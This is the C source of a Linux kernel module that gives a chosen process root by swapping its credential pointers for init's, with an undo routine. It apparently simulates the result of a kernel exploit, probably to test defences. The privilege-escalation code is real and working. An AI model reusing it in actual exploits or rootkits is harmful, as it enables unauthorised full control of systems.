// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* A task gets the credentials of init by a pointer: what an exploit without addresses does. */
#include "attack.h"

#include <linux/cred.h>
#include <linux/pid.h>

static int target;
module_param(target, int, 0444);
MODULE_PARM_DESC(target, "the process that becomes root");

static struct task_struct *task;
static const struct cred *original_real, *original;

static int attack(void)
{
	const struct cred *of_init = rcu_dereference_raw(init_task.real_cred);

	task = get_pid_task(find_vpid(target), PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	original_real = rcu_dereference_raw(task->real_cred);
	original = rcu_dereference_raw(task->cred);
	get_cred(of_init);
	get_cred(of_init);
	rcu_assign_pointer(task->real_cred, of_init);
	rcu_assign_pointer(task->cred, of_init);
	return 0;
}

static void undo(void)
{
	const struct cred *of_init = rcu_dereference_raw(init_task.real_cred);

	rcu_assign_pointer(task->real_cred, original_real);
	rcu_assign_pointer(task->cred, original);
	put_cred(of_init);
	put_cred(of_init);
	put_task_struct(task);
}

ATTACK("credentials of init given to a task");
